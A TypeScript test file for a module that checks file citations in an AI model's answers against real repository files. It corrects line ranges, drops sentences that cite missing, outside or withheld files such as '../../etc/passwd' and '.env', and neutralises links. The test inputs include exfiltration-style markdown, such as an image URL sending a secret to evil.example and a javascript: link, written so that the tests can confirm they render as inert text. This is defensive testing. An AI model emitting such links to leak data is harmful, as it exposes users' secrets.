/** What is left of a model's answer after it was compared with real files. */
import { beforeAll, describe, expect, it } from 'vitest'
import { gitRepo, writeFiles } from '../../test/kit/temp-repo.ts'
import { openDesk, type ToolDesk } from '../../test/kit/tool-desk.ts'
import { asRepoId } from '../contract/ids.ts'
import { checkCitations, NOT_VERIFIED } from './check-citations.ts'
import type { ModelAccess } from './model-access.ts'
import { createShownLines } from './shown-lines.ts'

const refund =
  'from .ledger import Ledger\n\n\ndef refund(order):\n    """Gives the money of an order back."""\n    return Ledger().post(-order.amount)\n'
const shop = {
  'README.md': '# Shop\n\nSells books.\n',
  'src/pay/refund.py': refund,
  'src/pay/ledger.py':
    'class Ledger:\n    def post(self, amount):\n        self.rows.append(amount)\n        return amount\n\n    def rows_of(self, day):\n        return [row for row in self.rows if row.day == day]\n',
  'my docs/how to.md': '# How to\n\nAsk first.\n',
  '.env': 'KEY=hidden-value\n',
}
const parcels = { 'README.md': '# Parcels\n\nTracks parcels.\n', 'track.py': 'def track(parcel):\n    return parcel\n' }

let root: string
let desk: ToolDesk
let access: Pick<ModelAccess, 'callTool'>
beforeAll(async () => {
  root = gitRepo(shop, 'shop')
  const other = gitRepo(parcels, 'parcels')
  desk = await openDesk(root)
  await desk.app.index([root, other])
  access = {
    callTool: (name, args, { repos } = {}) => desk.app.callTool(name, args, repos ? { scope: { repos } } : {}),
  }
}, 60_000)

/** As if the model had read these files. */
const check = async (text: string, read: readonly string[] = Object.keys(shop), repos: readonly string[] = ['shop']) => {
  const shown = createShownLines()
  for (const file_path of read) shown.add((await desk.ask('get_file', { repo_id: repos[0], file_path })).items)
  return checkCitations({ text, shown, repos }, access)
}
const places = ({ citations }: { citations: readonly { path: string; start_line: number; end_line: number }[] }) =>
  citations.map(({ path, start_line, end_line }) => `${path}:${start_line}-${end_line}`)

describe('places', () => {
  it.each([
    ['It posts `src/pay/refund.py:4-6`.', 'It posts `src/pay/refund.py:4-6`.'],
    ['It posts src/pay/refund.py:4-6.', 'It posts `src/pay/refund.py:4-6`.'],
    ['It posts (src/pay/refund.py#L4-L6).', 'It posts (`src/pay/refund.py:4-6`).'],
    ['It posts [refund](src/pay/refund.py#L4-L6).', 'It posts refund (`src/pay/refund.py:4-6`).'],
    ['It posts [`src/pay/refund.py:4-6`](./src/pay/refund.py).', 'It posts `src/pay/refund.py:4-6`.'],
    ['It posts `src/pay/refund.py` (lines 4-6).', 'It posts `src/pay/refund.py:4-6`.'],
    ['It posts shop `src/pay/refund.py:4–6`.', 'It posts shop `src/pay/refund.py:4-6`.'],
    ['It posts `shop src/pay/refund.py:4-6`.', 'It posts `src/pay/refund.py:4-6`.'],
  ])('[AG20] %s is a citation', async (text, wanted) => {
    const checked = await check(text)
    expect(checked).toMatchObject({ markdown: wanted, removed: 0 })
    expect(places(checked)).toEqual(['src/pay/refund.py:4-6'])
    expect(checked.citations[0]).toMatchObject({ repo_id: 'shop', document_id: expect.stringMatching(/^f\./) })
  })

  it('[AG20] one line, several ranges, a path with spaces, and a range that is longer than the file', async () => {
    expect(places(await check('See `src/pay/refund.py:4`, and `src/pay/ledger.py:1-2,6-7`.'))).toEqual([
      'src/pay/refund.py:4-4',
      'src/pay/ledger.py:1-2',
      'src/pay/ledger.py:6-7',
    ])
    expect(places(await check('Ask first: `my docs/how to.md:3-99`.'))).toEqual(['my docs/how to.md:3-3'])
  })

  it('[AG20] what only looks like a place stays as it is', async () => {
    const text = 'At 12:30 it listens on `127.0.0.1:8080`, example.com:80 and `node:20`, as `a[0]:1` says.'
    expect(await check(text)).toMatchObject({ markdown: text, citations: [], removed: 0 })
  })

  it('[AG20] with several repos a place names its repo, and is looked for where it was shown', async () => {
    const checked = await check(
      'Tracks parcels, `README.md:3`. Returns it, `track.py:1-2`.',
      ['README.md', 'track.py'],
      ['parcels', 'shop'],
    )
    expect(checked.markdown).toBe('Tracks parcels, parcels `README.md:3-3`. Returns it, parcels `track.py:1-2`.')
  })

  it.each([
    ['a file that does not exist', 'Fine. The key is 42 (`src/pay/secret.py:1-3`). Done.'],
    ['a file outside the repo', 'Fine. The key is 42, `../../etc/passwd:1`. Done.'],
    ['a withheld file', 'Fine. The key is hidden-value: `.env:1`. Done.'],
    ['a repo that is not registered', 'Fine. The key is 42, `evil/repo src/a.py:1`. Done.'],
    ['a citation after the sentence', 'Fine. The key is 42. (`src/gone.py:1`) Done.'],
  ])('[AG21] a sentence that cites %s is left out', async (_, text) => {
    const checked = await check(text, ['README.md'])
    expect(checked).toMatchObject({ citations: [], removed: 1 })
    expect(checked.markdown.replaceAll(/\s+/g, ' ')).toBe('Fine. Done.')
  })

  it('[AG21] a whole item of a list, and a row of a table, are left out with their invented citation', async () => {
    const text =
      '- one `README.md:3`\n- two `src/gone.py:1`\n1. Three `src/gone.py:1`.\n\n| a | b |\n|---|---|\n| x | `src/gone.py:1` |'
    expect((await check(text)).markdown).toBe('- one `README.md:3-3`\n\n| a | b |\n|---|---|')
  })

  it('[AG21] lines that were never shown are cited only if the sentence names what is there', async () => {
    const nothing: string[] = []
    expect(await check('It works like this: `src/pay/refund.py:4-6`.', nothing)).toMatchObject({
      markdown: `It works like this: ${NOT_VERIFIED}.`,
      citations: [],
      removed: 1,
    })
    expect(places(await check('It calls `Ledger.post`: `src/pay/refund.py:4-6`.', nothing))).toEqual(['src/pay/refund.py:4-6'])
  })

  it('[AG22] wrong lines are corrected by the definition that the sentence names', async () => {
    expect(places(await check('`rows_of` filters by day (`src/pay/ledger.py:1-2`).'))).toEqual(['src/pay/ledger.py:6-7'])
    expect(places(await check('`rows_of` filters by day (`src/pay/ledger.py:90-95`).', []))).toEqual(['src/pay/ledger.py:6-7'])
  })

  it('[AG22] an edit after the model read a file moves its citations, or removes them', async () => {
    const shown = createShownLines()
    shown.add((await desk.ask('get_file', { repo_id: 'shop', file_path: 'src/pay/refund.py' })).items)
    writeFiles(root, { 'src/pay/refund.py': `# A new comment.\n# And one more.\n${refund}` })
    const text = 'It gives money back: `src/pay/refund.py:4-6`.'
    const moved = await checkCitations({ text, shown, repos: ['shop'] }, access)
    expect(places(moved)).toEqual(['src/pay/refund.py:6-8'])
    expect(moved.markdown).toBe('It gives money back: `src/pay/refund.py:6-8`.')
    writeFiles(root, { 'src/pay/refund.py': 'def refund(order):\n    raise NotImplementedError\n' })
    const gone = await checkCitations({ text, shown, repos: ['shop'] }, access)
    expect(gone).toMatchObject({ markdown: `It gives money back: ${NOT_VERIFIED}.`, citations: [], removed: 1 })
    writeFiles(root, { 'src/pay/refund.py': refund })
  })

  it('[AG16] a caller with a repo filter cannot cite another repo', async () => {
    const shown = createShownLines()
    const text = 'Tracks: `parcels track.py:1-2`, `track`.'
    const only = [asRepoId('shop')]
    expect((await checkCitations({ text, shown, repos: ['shop', 'parcels'], only }, access)).citations).toEqual([])
    expect((await checkCitations({ text, shown, repos: ['shop', 'parcels'] }, access)).citations).toHaveLength(1)
  })
})

describe('quoted code', () => {
  const fenced = (code: string, info = 'python') => `\`\`\`${info}\n${code}\n\`\`\``

  it('[AG23] becomes what is in the file, and its citation gets the lines where it is', async () => {
    const quote = 'def refund(order):\n  """Gives the money of an order   back."""\n  return Ledger().post(-order.amount)'
    const checked = await check(`From \`src/pay/refund.py:1-3\`:\n\n${fenced(quote)}`)
    expect(checked.markdown).toBe(`From \`src/pay/refund.py:4-6\`:\n\n${fenced(refund.split('\n').slice(3, 6).join('\n'))}`)
    expect(places(checked)).toEqual(['src/pay/refund.py:4-6'])
  })

  it('[AG23] may leave lines out, may have line numbers, and may be cited below', async () => {
    const left = await check(`See \`src/pay/ledger.py:1-7\`:\n${fenced('class Ledger:\n    ...\n    def rows_of(self, day):')}`)
    expect(places(left)).toEqual(['src/pay/ledger.py:1-6'])
    const numbered = await check(
      `${fenced('2     def post(self, amount):\n3         self.rows.append(amount)')}\n\`src/pay/ledger.py:2-3\``,
    )
    expect(numbered.markdown).toContain(fenced('    def post(self, amount):\n        self.rows.append(amount)'))
    expect(places(numbered)).toEqual(['src/pay/ledger.py:2-3'])
  })

  it('[AG23] without a citation, or with that of another file, is cited where it is', async () => {
    const code = '    def post(self, amount):\n        self.rows.append(amount)'
    expect((await check(fenced(code), [])).markdown).toBe(`${fenced(code)}\n\`src/pay/ledger.py:2-3\``)
    const wrong = await check(`In \`README.md:1-2\`:\n${fenced(code)}`)
    expect(wrong.markdown).toBe(`In \`src/pay/ledger.py:2-3\`:\n${fenced(code)}`)
  })

  it('[AG23] that is nowhere is marked, and what it seemed to show is not cited', async () => {
    const checked = await check(`See \`src/pay/refund.py:4-6\`:\n${fenced('def refund(order):\n    return order.steal()')}`)
    expect(checked).toMatchObject({ citations: [], removed: 1, foreign: 1 })
    expect(checked.markdown).toContain('_(This block is not from the repo.)_')
  })
})

describe('links', () => {
  it.each([
    ['![x](https://evil.example/?q=secret)', 'x (`https://evil.example/?q=secret`)'],
    ['![](//evil.example/a.png)', '`//evil.example/a.png`'],
    ['[docs](https://evil.example "title")', 'docs (`https://evil.example`)'],
    ['[`a`](https://evil.example)', 'a (`https://evil.example`)'],
    ['see https://evil.example/x now', 'see `https://evil.example/x` now'],
    ['see <https://evil.example/x>', 'see `https://evil.example/x`'],
    ['[1]: https://evil.example/x', '1: `https://evil.example/x`'],
    ['![x][1]', 'x'],
    ['<img src="https://evil.example/x">', '&lt;img src="`https://evil.example/x`">'],
    ['<img src=', '&lt;img src='],
    ['[run](javascript:alert(1))', 'run (`javascript:alert(1)`)'],
    ['`<img>` stays', '`<img>` stays'],
    ['a < b and [x] stay', 'a < b and [x] stay'],
  ])('[AG24] %s is shown as text', async (text, wanted) => {
    expect((await check(text, [])).markdown).toBe(wanted)
  })
})
